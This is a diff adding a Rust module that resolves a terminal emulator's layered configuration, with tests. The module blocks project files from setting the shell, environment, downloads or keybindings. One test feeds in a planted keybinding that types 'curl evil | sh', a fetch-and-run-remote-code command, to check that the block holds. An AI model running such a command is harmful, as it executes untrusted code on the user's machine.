@@ -0,0 +1,952 @@
+//! Layered configuration resolution.
+//!
+//! The effective configuration is built from these layers, each overriding
+//! the ones before it:
+//!
+//! 1. Built-in defaults
+//! 2. System config: `$CRUX_SYSTEM_CONFIG`, else `/etc/crux/config.toml`
+//!    (`/Library/Application Support/crux/config.toml` on macOS)
+//! 3. User config: see [`CruxConfig::config_path`]
+//! 4. Project config: the nearest `.crux.toml` in the launch directory or
+//!    one of its parents
+//! 5. Environment: `CRUX_<SECTION>_<KEY>`, e.g. `CRUX_FONT_SIZE=16`
+//! 6. Command line: `--config-override font.size=16`
+//!
+//! Layers are merged key by key: a layer that sets `font.size` keeps
+//! `font.family` from the layers below. Arrays are replaced, not appended.
+//! [`LayeredConfig`] records which layer each effective value came from.
+//!
+//! A config file's `import = [...]` files are merged just beneath it, in
+//! order, and may import further files. The theme named by `colors.theme`
+//! fills in the colors that no layer sets.
+
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+use serde::Serialize;
+use toml::{Table, Value};
+
+use crate::theme::{self, Theme};
+use crate::{ConfigError, CruxConfig};
+
+/// File name of per-project configuration.
+pub const PROJECT_CONFIG_FILE: &str = ".crux.toml";
+
+/// Prefix of configuration environment variables.
+const ENV_PREFIX: &str = "CRUX_";
+
+/// Keys a project config may not set: a cloned repository must not be
+/// able to choose what runs in new panes, let programs write files, nor
+/// bind keys to text or IPC requests. Keys without a dot are whole
+/// sections.
+const PROJECT_DENIED_KEYS: &[&str] = &[
+    "terminal.shell",
+    "terminal.shell_args",
+    "terminal.env",
+    "terminal.allow_downloads",
+    "terminal.max_download_bytes",
+    "keys",
+    "keybindings",
+];
+
+/// How deep `import` chains may nest.
+const MAX_IMPORT_DEPTH: usize = 5;
+
+/// A configuration layer, lowest priority first.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ConfigLayer {
+    Default,
+    Theme,
+    System,
+    User,
+    Project,
+    Environment,
+    CommandLine,
+}
+
+impl fmt::Display for ConfigLayer {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(match self {
+            ConfigLayer::Default => "default",
+            ConfigLayer::Theme => "theme",
+            ConfigLayer::System => "system",
+            ConfigLayer::User => "user",
+            ConfigLayer::Project => "project",
+            ConfigLayer::Environment => "environment",
+            ConfigLayer::CommandLine => "command line",
+        })
+    }
+}
+
+/// Where an effective value was set.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct ConfigSource {
+    pub layer: ConfigLayer,
+    /// The file, environment variable or override that set the value.
+    pub origin: Option<String>,
+}
+
+impl ConfigSource {
+    fn new(layer: ConfigLayer, origin: impl Into<String>) -> Self {
+        Self {
+            layer,
+            origin: Some(origin.into()),
+        }
+    }
+
+    const DEFAULT: Self = Self {
+        layer: ConfigLayer::Default,
+        origin: None,
+    };
+}
+
+impl fmt::Display for ConfigSource {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match &self.origin {
+            Some(origin) => write!(f, "{} ({})", self.layer, origin),
+            None => write!(f, "{}", self.layer),
+        }
+    }
+}
+
+/// One effective value and where it came from.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ConfigEntry {
+    /// Dotted key, e.g. `font.size`.
+    pub key: String,
+    pub value: Value,
+    pub source: ConfigSource,
+}
+
+/// The effective configuration with the origin of every value.
+#[derive(Debug, Clone)]
+pub struct LayeredConfig {
+    pub config: CruxConfig,
+    /// Merged TOML of all layers.
+    values: Table,
+    /// Layer that last set each leaf key; unset keys are defaults.
+    sources: BTreeMap<String, ConfigSource>,
+    /// Config files that were found and read, including imports and the
+    /// theme file, lowest priority first.
+    files: Vec<(ConfigLayer, PathBuf)>,
+}
+
+impl LayeredConfig {
+    /// Where the value of `key` came from.
+    pub fn source(&self, key: &str) -> ConfigSource {
+        self.sources
+            .get(key)
+            .cloned()
+            .unwrap_or(ConfigSource::DEFAULT)
+    }
+
+    /// Every effective value in key order. Arrays are single entries.
+    pub fn entries(&self) -> Vec<ConfigEntry> {
+        let mut entries = Vec::new();
+        collect_entries(&self.values, "", &mut entries);
+        for entry in &mut entries {
+            entry.source = self.source(&entry.key);
+        }
+        entries
+    }
+
+    /// The entries at `key`: the value itself, or every value in the
+    /// section `key` names. Empty if there is no such key.
+    pub fn get(&self, key: &str) -> Vec<ConfigEntry> {
+        let nested = format!("{key}.");
+        self.entries()
+            .into_iter()
+            .filter(|entry| entry.key == key || entry.key.starts_with(&nested))
+            .collect()
+    }
+
+    /// Entries set by a layer other than the defaults.
+    pub fn overridden(&self) -> Vec<ConfigEntry> {
+        self.entries()
+            .into_iter()
+            .filter(|entry| entry.source.layer != ConfigLayer::Default)
+            .collect()
+    }
+
+    /// Config files that were read, including imports and the theme
+    /// file, lowest priority first.
+    pub fn files(&self) -> &[(ConfigLayer, PathBuf)] {
+        &self.files
+    }
+}
+
+pub(crate) fn collect_entries(table: &Table, prefix: &str, out: &mut Vec<ConfigEntry>) {
+    for (key, value) in table {
+        let path = join_key(prefix, key);
+        match value {
+            Value::Table(table) => collect_entries(table, &path, out),
+            value => out.push(ConfigEntry {
+                key: path,
+                value: value.clone(),
+                source: ConfigSource::DEFAULT,
+            }),
+        }
+    }
+}
+
+fn join_key(prefix: &str, key: &str) -> String {
+    if prefix.is_empty() {
+        key.to_string()
+    } else {
+        format!("{prefix}.{key}")
+    }
+}
+
+/// Builds a [`LayeredConfig`] from the standard layers.
+///
+/// [`ConfigLoader::new`] uses the real file locations, the process
+/// environment and the current directory; each can be replaced.
+#[derive(Debug, Clone)]
+pub struct ConfigLoader {
+    system_path: Option<PathBuf>,
+    user_path: Option<PathBuf>,
+    project_dir: Option<PathBuf>,
+    env: Vec<(String, String)>,
+    overrides: Vec<String>,
+    themes_dir: Option<PathBuf>,
+}
+
+impl Default for ConfigLoader {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl ConfigLoader {
+    pub fn new() -> Self {
+        Self {
+            system_path: Some(system_config_path()),
+            user_path: Some(CruxConfig::config_path()),
+            project_dir: std::env::current_dir().ok(),
+            env: std::env::vars().collect(),
+            overrides: Vec::new(),
+            themes_dir: Some(theme::themes_dir()),
+        }
+    }
+
+    /// A loader with no layers beyond the defaults and bundled themes.
+    pub fn empty() -> Self {
+        Self {
+            system_path: None,
+            user_path: None,
+            project_dir: None,
+            env: Vec::new(),
+            overrides: Vec::new(),
+            themes_dir: None,
+        }
+    }
+
+    /// System config file, or `None` to skip the layer.
+    pub fn system_path(mut self, path: Option<PathBuf>) -> Self {
+        self.system_path = path;
+        self
+    }
+
+    /// User config file, or `None` to skip the layer.
+    pub fn user_path(mut self, path: Option<PathBuf>) -> Self {
+        self.user_path = path;
+        self
+    }
+
+    /// Directory to search upwards from for `.crux.toml`, or `None` to skip
+    /// the project layer.
+    pub fn project_dir(mut self, dir: Option<PathBuf>) -> Self {
+        self.project_dir = dir;
+        self
+    }
+
+    /// Environment to read `CRUX_*` variables from.
+    pub fn env(mut self, vars: impl IntoIterator<Item = (String, String)>) -> Self {
+        self.env = vars.into_iter().collect();
+        self
+    }
+
+    /// `key=value` overrides from the command line, applied in order.
+    pub fn overrides(mut self, overrides: impl IntoIterator<Item = String>) -> Self {
+        self.overrides = overrides.into_iter().collect();
+        self
+    }
+
+    /// Directory searched for themes named by `colors.theme`, or `None` for
+    /// bundled themes only.
+    pub fn themes_dir(mut self, dir: Option<PathBuf>) -> Self {
+        self.themes_dir = dir;
+        self
+    }
+
+    /// Resolve and validate the effective configuration.
+    pub fn load(&self) -> Result<LayeredConfig, ConfigError> {
+        let mut values = match Value::try_from(CruxConfig::default()) {
+            Ok(Value::Table(table)) => table,
+            _ => Table::new(),
+        };
+        let mut sources = BTreeMap::new();
+        let mut files = Vec::new();
+
+        let project_path = self.project_dir.as_deref().and_then(find_project_config);
+        let file_layers = [
+            (ConfigLayer::System, self.system_path.clone()),
+            (ConfigLayer::User, self.user_path.clone()),
+            (ConfigLayer::Project, project_path),
+        ];
+        for (layer, path) in file_layers {
+            let Some(path) = path.filter(|path| path.is_file()) else {
+                continue;
+            };
+            let mut tables = Vec::new();
+            read_with_imports(layer, &path, &mut Vec::new(), &mut tables)?;
+            for (path, mut table) in tables {
+                if layer == ConfigLayer::Project {
+                    strip_denied_keys(&mut table, &path);
+                }
+                check_layer(layer, &table, Some(&path))?;
+                log::info!("Loading {} config from {}", layer, path.display());
+                let source = ConfigSource::new(layer, path.display().to_string());
+                merge(&mut values, table, "", &source, &mut sources);
+                files.push((layer, path));
+            }
+        }
+
+        for (name, table) in self.env_layer(&values) {
+            check_layer(ConfigLayer::Environment, &table, None)?;
+            let source = ConfigSource::new(ConfigLayer::Environment, name);
+            merge(&mut values, table, "", &source, &mut sources);
+        }
+
+        for spec in &self.overrides {
+            let (key, raw) = spec.split_once('=').ok_or_else(|| {
+                layer_error(
+                    ConfigLayer::CommandLine,
+                    format!("expected key=value, got {spec:?}"),
+                )
+            })?;
+            let key = key.trim();
+            let path: Vec<&str> = key.split('.').collect();
+            if path.iter().any(|part| part.is_empty()) || key == "import" {
+                return Err(layer_error(
+                    ConfigLayer::CommandLine,
+                    format!("invalid key {key:?}"),
+                ));
+            }
+            let value = parse_value(raw, lookup(&values, &path));
+            let table = nested_table(&path, value);
+            check_layer(ConfigLayer::CommandLine, &table, None)?;
+            let source = ConfigSource::new(ConfigLayer::CommandLine, spec.clone());
+            merge(&mut values, table, "", &source, &mut sources);
+        }
+
+        if let Some(Value::String(spec)) = lookup(&values, &["colors", "theme"]) {
+            let theme = Theme::find(spec, self.themes_dir.as_deref())?;
+            log::info!("Using theme {}", theme.origin());
+            apply_theme(&mut values, &theme, &mut sources);
+            if let Some(path) = &theme.path {
+                files.insert(0, (ConfigLayer::Theme, path.clone()));
+            }
+        }
+
+        let config: CruxConfig = Value::Table(values.clone()).try_into()?;
+        config.validate()?;
+        Ok(LayeredConfig {
+            config,
+            values,
+            sources,
+            files,
+        })
+    }
+
+    /// One single-key table per `CRUX_<SECTION>_<KEY>` variable. Variables
+    /// that do not start with a config section, like `CRUX_SOCKET`, are not
+    /// configuration and are skipped.
+    fn env_layer(&self, values: &Table) -> Vec<(String, Table)> {
+        let mut layer = Vec::new();
+        let mut vars: Vec<&(String, String)> = self.env.iter().collect();
+        vars.sort();
+        for (name, raw) in vars {
+            let Some(rest) = name.strip_prefix(ENV_PREFIX) else {
+                continue;
+            };
+            let rest = rest.to_ascii_lowercase();
+            let Some((section, key)) = rest.split_once('_') else {
+                continue;
+            };
+            if !matches!(values.get(section), Some(Value::Table(_))) || key.is_empty() {
+                continue;
+            }
+            let path = [section, key];
+            let value = parse_value(raw, lookup(values, &path));
+            layer.push((name.clone(), nested_table(&path, value)));
+        }
+        layer
+    }
+}
+
+/// `$CRUX_SYSTEM_CONFIG`, else the platform's system-wide config file.
+pub fn system_config_path() -> PathBuf {
+    if let Ok(path) = std::env::var("CRUX_SYSTEM_CONFIG") {
+        return PathBuf::from(path);
+    }
+    if cfg!(target_os = "macos") {
+        PathBuf::from("/Library/Application Support/crux/config.toml")
+    } else {
+        PathBuf::from("/etc/crux/config.toml")
+    }
+}
+
+/// The nearest `.crux.toml` in `dir` or one of its ancestors.
+pub fn find_project_config(dir: &Path) -> Option<PathBuf> {
+    dir.ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+        .find(|path| path.is_file())
+}
+
+fn layer_error(layer: ConfigLayer, message: impl Into<String>) -> ConfigError {
+    ConfigError::LayerError {
+        layer,
+        message: message.into(),
+    }
+}
+
+fn read_layer(layer: ConfigLayer, path: &Path) -> Result<Table, ConfigError> {
+    let contents = std::fs::read_to_string(path)?;
+    contents
+        .parse::<Table>()
+        .map_err(|e| layer_error(layer, format!("{}: {}", path.display(), e)))
+}
+
+/// Read `path` and the files it imports into `out`, imports first.
+/// `chain` holds the files currently being read, to catch cycles.
+fn read_with_imports(
+    layer: ConfigLayer,
+    path: &Path,
+    chain: &mut Vec<PathBuf>,
+    out: &mut Vec<(PathBuf, Table)>,
+) -> Result<(), ConfigError> {
+    let canonical = path.canonicalize().unwrap_or_else(|_| path.to_path_buf());
+    if chain.contains(&canonical) {
+        return Err(layer_error(
+            layer,
+            format!("{}: import cycle", path.display()),
+        ));
+    }
+    if chain.len() > MAX_IMPORT_DEPTH {
+        return Err(layer_error(
+            layer,
+            format!(
+                "{}: imports nested more than {} deep",
+                path.display(),
+                MAX_IMPORT_DEPTH
+            ),
+        ));
+    }
+
+    let mut table = read_layer(layer, path)?;
+    let imports = match table.remove("import") {
+        None => Vec::new(),
+        Some(Value::Array(imports)) => imports,
+        Some(_) => {
+            return Err(layer_error(
+                layer,
+                format!("{}: import must be an array of paths", path.display()),
+            ))
+        }
+    };
+
+    chain.push(canonical);
+    let dir = path.parent().unwrap_or(Path::new("."));
+    for import in imports {
+        let Value::String(import) = import else {
+            return Err(layer_error(
+                layer,
+                format!("{}: import must be an array of paths", path.display()),
+            ));
+        };
+        let import = dir.join(theme::expand_home(&import));
+        if import.is_file() {
+            read_with_imports(layer, &import, chain, out)?;
+        } else {
+            log::warn!(
+                "skipping import {} from {}: no such file",
+                import.display(),
+                path.display()
+            );
+        }
+    }
+    chain.pop();
+
+    out.push((path.to_path_buf(), table));
+    Ok(())
+}
+
+/// Set the theme's colors wherever no layer set one.
+fn apply_theme(values: &mut Table, theme: &Theme, sources: &mut BTreeMap<String, ConfigSource>) {
+    let source = ConfigSource::new(ConfigLayer::Theme, theme.origin());
+    let Some(Value::Table(colors)) = values.get_mut("colors") else {
+        return;
+    };
+    for (key, value) in theme.values() {
+        let path = join_key("colors", key);
+        let nested = format!("{path}.");
+        let overridden = sources
+            .keys()
+            .any(|key| *key == path || key.starts_with(&nested));
+        if !overridden {
+            colors.insert(key.clone(), value.clone());
+            sources.insert(path, source.clone());
+        }
+    }
+}
+
+/// Reject a layer that sets unknown keys or values of the wrong type, so
+/// the error names the layer instead of surfacing after the merge.
+fn check_layer(layer: ConfigLayer, table: &Table, path: Option<&Path>) -> Result<(), ConfigError> {
+    if let Err(e) = Value::Table(table.clone()).try_into::<CruxConfig>() {
+        let message = match path {
+            Some(path) => format!("{}: {}", path.display(), e),
+            None => e.to_string(),
+        };
+        return Err(layer_error(layer, message.trim_end().to_string()));
+    }
+    Ok(())
+}
+
+fn strip_denied_keys(table: &mut Table, path: &Path) {
+    for key in PROJECT_DENIED_KEYS {
+        let removed = match key.split_once('.') {
+            Some((section, field)) => match table.get_mut(section) {
+                Some(Value::Table(section)) => section.remove(field).is_some(),
+                _ => false,
+            },
+            None => table.remove(*key).is_some(),
+        };
+        if removed {
+            log::warn!(
+                "ignoring {} in {}: project configs cannot set it",
+                key,
+                path.display()
+            );
+        }
+    }
+}
+
+/// Merge `layer` into `base`, recording `source` for every leaf it sets.
+fn merge(
+    base: &mut Table,
+    layer: Table,
+    prefix: &str,
+    source: &ConfigSource,
+    sources: &mut BTreeMap<String, ConfigSource>,
+) {
+    for (key, value) in layer {
+        let path = join_key(prefix, &key);
+        match value {
+            Value::Table(table) => {
+                if !matches!(base.get(&key), Some(Value::Table(_))) {
+                    base.insert(key.clone(), Value::Table(Table::new()));
+                }
+                if let Some(Value::Table(base)) = base.get_mut(&key) {
+                    merge(base, table, &path, source, sources);
+                }
+            }
+            value => {
+                let nested = format!("{path}.");
+                sources.retain(|key, _| !key.starts_with(&nested));
+                sources.insert(path, source.clone());
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+fn lookup<'a>(table: &'a Table, path: &[&str]) -> Option<&'a Value> {
+    let (last, parents) = path.split_last()?;
+    let mut table = table;
+    for part in parents {
+        table = table.get(*part)?.as_table()?;
+    }
+    table.get(*last)
+}
+
+/// `{ a = { b = value } }` for the path `a.b`.
+fn nested_table(path: &[&str], value: Value) -> Table {
+    let mut value = value;
+    for part in path[1..].iter().rev() {
+        let mut table = Table::new();
+        table.insert(part.to_string(), value);
+        value = Value::Table(table);
+    }
+    let mut table = Table::new();
+    table.insert(path[0].to_string(), value);
+    table
+}
+
+/// Interpret an override. Keys whose current value is a string always get
+/// the raw text; otherwise it is read as a TOML value (`16`, `true`,
+/// `["-l"]`), falling back to a string.
+fn parse_value(raw: &str, current: Option<&Value>) -> Value {
+    let raw = raw.trim();
+    if matches!(current, Some(Value::String(_))) {
+        return Value::String(raw.to_string());
+    }
+    let parsed = format!("v = {raw}")
+        .parse::<Table>()
+        .ok()
+        .and_then(|mut table| table.remove("v"));
+    match (parsed, current) {
+        (Some(Value::Integer(n)), Some(Value::Float(_))) => Value::Float(n as f64),
+        (Some(value), _) => value,
+        (None, _) => Value::String(raw.to_string()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A loader that reads nothing from the machine it runs on.
+    fn isolated() -> ConfigLoader {
+        ConfigLoader::empty()
+    }
+
+    fn temp_dir(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!(
+            "crux-config-layered-{}-{}",
+            name,
+            std::process::id()
+        ));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    fn vars(vars: &[(&str, &str)]) -> Vec<(String, String)> {
+        vars.iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect()
+    }
+
+    #[test]
+    fn test_defaults_only() {
+        let layered = isolated().load().unwrap();
+        assert_eq!(layered.config.font.size, 14.0);
+        assert_eq!(layered.source("font.size"), ConfigSource::DEFAULT);
+        assert!(layered.overridden().is_empty());
+        assert!(layered.files().is_empty());
+
+        let size = layered.get("font.size");
+        assert_eq!(size.len(), 1);
+        assert_eq!(size[0].value, Value::Float(14.0));
+        let font: Vec<String> = layered.get("font").into_iter().map(|e| e.key).collect();
+        assert_eq!(
+            font,
+            [
+                "font.fallback",
+                "font.family",
+                "font.ligatures",
+                "font.size"
+            ]
+        );
+        assert!(layered.get("font.siz").is_empty());
+    }
+
+    #[test]
+    fn test_layers_override_in_order() {
+        let dir = temp_dir("order");
+        let system = dir.join("system.toml");
+        let user = dir.join("user.toml");
+        let project = dir.join("repo/sub");
+        std::fs::create_dir_all(&project).unwrap();
+        std::fs::write(
+            &system,
+            "[font]\nfamily = \"Team Mono\"\nsize = 12.0\n[terminal]\nscrollback_lines = 5000\n",
+        )
+        .unwrap();
+        std::fs::write(&user, "[font]\nsize = 13.0\n").unwrap();
+        std::fs::write(
+            dir.join("repo").join(PROJECT_CONFIG_FILE),
+            "[window]\nwidth = 1000.0\n[terminal]\nshell = \"/tmp/evil\"\n",
+        )
+        .unwrap();
+
+        let layered = isolated()
+            .system_path(Some(system.clone()))
+            .user_path(Some(user.clone()))
+            .project_dir(Some(project))
+            .env(vars(&[
+                ("CRUX_FONT_SIZE", "15"),
+                ("CRUX_SOCKET", "/tmp/crux.sock"),
+                ("CRUX_TERMINAL_SCROLLBACK_LINES", "7000"),
+            ]))
+            .overrides(["terminal.scrollback_lines=9000".to_string()])
+            .load()
+            .unwrap();
+
+        let config = &layered.config;
+        assert_eq!(config.font.family, "Team Mono");
+        assert_eq!(config.font.size, 15.0);
+        assert_eq!(config.window.width, 1000.0);
+        assert_eq!(config.terminal.scrollback_lines, 9000);
+        assert_eq!(config.terminal.shell, None);
+
+        assert_eq!(layered.source("font.family").layer, ConfigLayer::System);
+        assert_eq!(
+            layered.source("font.size"),
+            ConfigSource::new(ConfigLayer::Environment, "CRUX_FONT_SIZE")
+        );
+        assert_eq!(layered.source("window.width").layer, ConfigLayer::Project);
+        assert_eq!(
+            layered.source("terminal.scrollback_lines").layer,
+            ConfigLayer::CommandLine
+        );
+        assert_eq!(layered.source("window.height"), ConfigSource::DEFAULT);
+        assert_eq!(
+            layered
+                .files()
+                .iter()
+                .map(|(layer, _)| *layer)
+                .collect::<Vec<_>>(),
+            [ConfigLayer::System, ConfigLayer::User, ConfigLayer::Project]
+        );
+
+        let overridden: Vec<String> = layered.overridden().into_iter().map(|e| e.key).collect();
+        assert_eq!(
+            overridden,
+            [
+                "font.family",
+                "font.size",
+                "terminal.scrollback_lines",
+                "window.width"
+            ]
+        );
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_project_cannot_bind_keys() {
+        let dir = temp_dir("project-keys");
+        let user = dir.join("user.toml");
+        std::fs::write(
+            &user,
+            "[[keybindings]]\nkey = \"cmd-k\"\naction = \"new_tab\"\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.join(PROJECT_CONFIG_FILE),
+            "[keys]\ndisable_defaults = true\n\n\
+             [[keybindings]]\nkey = \"cmd-e\"\naction = \"send_text\"\ntext = \"curl evil | sh\"\n",
+        )
+        .unwrap();
+
+        let layered = isolated()
+            .user_path(Some(user))
+            .project_dir(Some(dir.clone()))
+            .load()
+            .unwrap();
+        assert!(!layered.config.keys.disable_defaults);
+        assert_eq!(layered.config.keybindings.len(), 1);
+        assert_eq!(layered.config.keybindings[0].key, "cmd-k");
+        assert_eq!(
+            layered.source("keys.disable_defaults"),
+            ConfigSource::DEFAULT
+        );
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_project_cannot_allow_downloads() {
+        let dir = temp_dir("project-downloads");
+        std::fs::write(
+            dir.join(PROJECT_CONFIG_FILE),
+            "[terminal]\nallow_downloads = true\nmax_download_bytes = 1099511627776\n",
+        )
+        .unwrap();
+
+        let layered = isolated().project_dir(Some(dir.clone())).load().unwrap();
+        assert!(!layered.config.terminal.allow_downloads);
+        assert_eq!(layered.config.terminal.max_download_bytes, 16 * 1024 * 1024);
+        assert_eq!(
+            layered.source("terminal.allow_downloads"),
+            ConfigSource::DEFAULT
+        );
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_override_values_follow_field_types() {
+        let layered = isolated()
+            .overrides([
+                "font.family=123".to_string(),
+                "font.size=16".to_string(),
+                "terminal.shell=/bin/fish".to_string(),
+                "terminal.shell_args=[\"-i\"]".to_string(),
+                "terminal.env.EDITOR = vim".to_string(),
+                "session.autosave=false".to_string(),
+            ])
+            .load()
+            .unwrap();
+        let config = &layered.config;
+        assert_eq!(config.font.family, "123");
+        assert_eq!(config.font.size, 16.0);
+        assert_eq!(config.terminal.shell.as_deref(), Some("/bin/fish"));
+        assert_eq!(config.terminal.shell_args, ["-i"]);
+        assert_eq!(config.terminal.env["EDITOR"], "vim");
+        assert!(!config.session.autosave);
+        assert_eq!(
+            layered.source("terminal.env.EDITOR").layer,
+            ConfigLayer::CommandLine
+        );
+    }
+
+    #[test]
+    fn test_errors_name_the_layer() {
+        let err = isolated()
+            .overrides(["font.sise=16".to_string()])
+            .load()
+            .unwrap_err();
+        assert!(
+            matches!(
+                err,
+                ConfigError::LayerError {
+                    layer: ConfigLayer::CommandLine,
+                    ..
+                }
+            ),
+            "{err}"
+        );
+
+        let err = isolated()
+            .overrides(["font.size".to_string()])
+            .load()
+            .unwrap_err();
+        assert!(err.to_string().contains("key=value"), "{err}");
+
+        let err = isolated()
+            .env(vars(&[("CRUX_WINDOW_OPACITY", "opaque")]))
+            .load()
+            .unwrap_err();
+        assert!(
+            matches!(
+                err,
+                ConfigError::LayerError {
+                    layer: ConfigLayer::Environment,
+                    ..
+                }
+            ),
+            "{err}"
+        );
+
+        // Each layer is valid on its own but the result is validated too.
+        let err = isolated()
+            .overrides(["font.size=100".to_string()])
+            .load()
+            .unwrap_err();
+        assert!(matches!(err, ConfigError::ValidationError(_)), "{err}");
+    }
+
+    #[test]
+    fn test_imports_merge_beneath_the_importer() {
+        let dir = temp_dir("imports");
+        std::fs::create_dir_all(dir.join("parts")).unwrap();
+        let user = dir.join("config.toml");
+        std::fs::write(
+            &user,
+            "import = [\"parts/fonts.toml\", \"parts/missing.toml\"]\n[font]\nsize = 13.0\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.join("parts/fonts.toml"),
+            "import = [\"colors.toml\"]\n[font]\nfamily = \"Iosevka\"\nsize = 20.0\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.join("parts/colors.toml"),
+            "[colors]\nbackground = 0x000000\n",
+        )
+        .unwrap();
+
+        let layered = isolated().user_path(Some(user.clone())).load().unwrap();
+        assert_eq!(layered.config.font.family, "Iosevka");
+        assert_eq!(layered.config.font.size, 13.0);
+        assert_eq!(layered.config.colors.background, 0x000000);
+        assert_eq!(
+            layered.source("colors.background").origin.as_deref(),
+            Some(dir.join("parts/colors.toml").display().to_string().as_str())
+        );
+        assert_eq!(layered.files().len(), 3);
+
+        std::fs::write(
+            dir.join("parts/colors.toml"),
+            "import = [\"../config.toml\"]\n",
+        )
+        .unwrap();
+        let err = isolated().user_path(Some(user)).load().unwrap_err();
+        assert!(err.to_string().contains("import cycle"), "{err}");
+
+        let err = isolated()
+            .overrides(["import=[\"x.toml\"]".to_string()])
+            .load()
+            .unwrap_err();
+        assert!(matches!(err, ConfigError::LayerError { .. }), "{err}");
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_theme_fills_unset_colors() {
+        let layered = isolated()
+            .overrides([
+                "colors.theme=dracula".to_string(),
+                "colors.background=0x000000".to_string(),
+            ])
+            .load()
+            .unwrap();
+        let colors = &layered.config.colors;
+        assert_eq!(colors.background, 0x000000);
+        assert_eq!(colors.foreground, 0xf8f8f2);
+        assert_eq!(colors.selection_background, Some(0x44475a));
+        assert_eq!(
+            layered.source("colors.background").layer,
+            ConfigLayer::CommandLine
+        );
+        assert_eq!(
+            layered.source("colors.foreground").layer,
+            ConfigLayer::Theme
+        );
+
+        let err = isolated()
+            .overrides(["colors.theme=nope".to_string()])
+            .load()
+            .unwrap_err();
+        assert!(matches!(err, ConfigError::ThemeError { .. }), "{err}");
+    }
+
+    #[test]
+    fn test_find_project_config_walks_up() {
+        let dir = temp_dir("project");
+        let nested = dir.join("a/b/c");
+        std::fs::create_dir_all(&nested).unwrap();
+        assert_eq!(find_project_config(&nested), None);
+
+        std::fs::write(dir.join("a").join(PROJECT_CONFIG_FILE), "").unwrap();
+        assert_eq!(
+            find_project_config(&nested),
+            Some(dir.join("a").join(PROJECT_CONFIG_FILE))
+        );
+        std::fs::write(nested.join(PROJECT_CONFIG_FILE), "").unwrap();
+        assert_eq!(
+            find_project_config(&nested),
+            Some(nested.join(PROJECT_CONFIG_FILE))
+        );
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+}